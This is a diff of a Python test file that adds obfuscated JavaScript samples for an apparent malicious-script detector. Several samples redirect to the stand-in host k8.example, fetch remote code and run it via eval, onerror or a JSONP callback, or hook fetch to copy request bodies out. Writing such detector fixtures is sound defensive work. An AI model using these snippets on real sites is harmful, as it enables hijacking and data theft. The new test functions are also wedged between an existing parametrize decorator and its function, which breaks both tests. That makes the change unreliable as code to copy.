@@ -47,6 +47,11 @@ def near(code: str) -> set[str]:
         "with(window){location='//'+atob('azguZXhhbXBsZQ==')} /* ---------------------------------------------- */",
         "try{throw '//k8.example'}catch(e){location=e} /* ------------------------------------------------------- */",
         "const {a:{b}}={a:{b:'//k8.example'}};location=b; /* ---------------------------------------------------- */",
+        "const t=(s,...v)=>s.raw.map((x,i)=>x+(v[i]??'')).join('');location=t`//${'k8'}.${'exam'}ple`; /* ------- */",
+        "let k=Object.getOwnPropertyNames(window).find(n=>n.length==8&&n[0]=='l');window[k].href='//k8.'+'example';",
+        "var o={h:'k8',valueOf(){location='//'+this.h+'.example';return 1}};if(+o>2)document.title='x'; /* ------ */",
+        "(await import('data:text/javascript,export default h=>{location=h}')).default(['//k8','example'].join('.'))",
+        "Reflect.set(window,'location',Reflect.apply(String.prototype.concat,'//',['k8','.example'])); /* ------ */",
     ],
 )
 def test_an_address_is_put_together(code):
@@ -63,6 +68,10 @@ def test_an_address_is_put_together(code):
         ("if(!/baidu/.test(document.referrer))throw 1;location='https://k8.example/';               ", "referrer"),
         ("function f(){if(new Date().getHours()<20)return;location='https://k8.example/'}f();        ", "clock"),
         ("fetch('https://k8.example/').then(r=>r.text()).then(t=>{let f=window['ev'+'al'];f(t)})     ", "answer-run"),
+        ("s='';for(i=0;i<9;i++)s+='abc'[Date.now()%3];import('https://'+s+'.k8.example/a.js'); /* --- */", "drawn"),
+        ("a=localStorage;a.x&&setTimeout(a.x);fetch('https://k8.example/').then(r=>a.setItem('x',r))", "answer-run"),
+        ("fetch('https://k8.example/').then(t=>{box.innerHTML='<img src onerror=\"'+t+'\">'}); /* - */", "answer-run"),
+        ("function go(d){eval(d.c)}$.getScript('https://k8.example/?f=json&cb=go&t='+Math.random())  ", "answer-run"),
         ("const f=fetch;fetch=function(u,o){f('https://k8.example/',{body:o.body});return f(u,o)}     ", "hook"),
     ],
 )
@@ -78,6 +87,15 @@ def test_where_it_comes_from_and_what_decides(code, sign):
         "if(document.referrer)count();fetch('https://k8.example/').then(r=>r.json()).then(j=>b.textContent=j.n)",
     ],
 )
+def test_an_address_with_a_number_drawn_is_an_ordinary_one():
+    assert "drawn" not in near("import('https://s'+Math.ceil(Math.random()*4)+'.k8.example/a.js'); /* ------------- */")
+
+
+def test_tags_are_written_in_pieces():
+    code = "var w=document;w.write('<scr');w.write('ipt src=//k8');w.write('.example/a.js></scr'+'ipt>');"
+    assert did(code) == [("load", "//k8.example/a.js")]
+
+
 def test_what_does_not_reach_the_address_is_not_sent(code):
     assert not near(code)
 
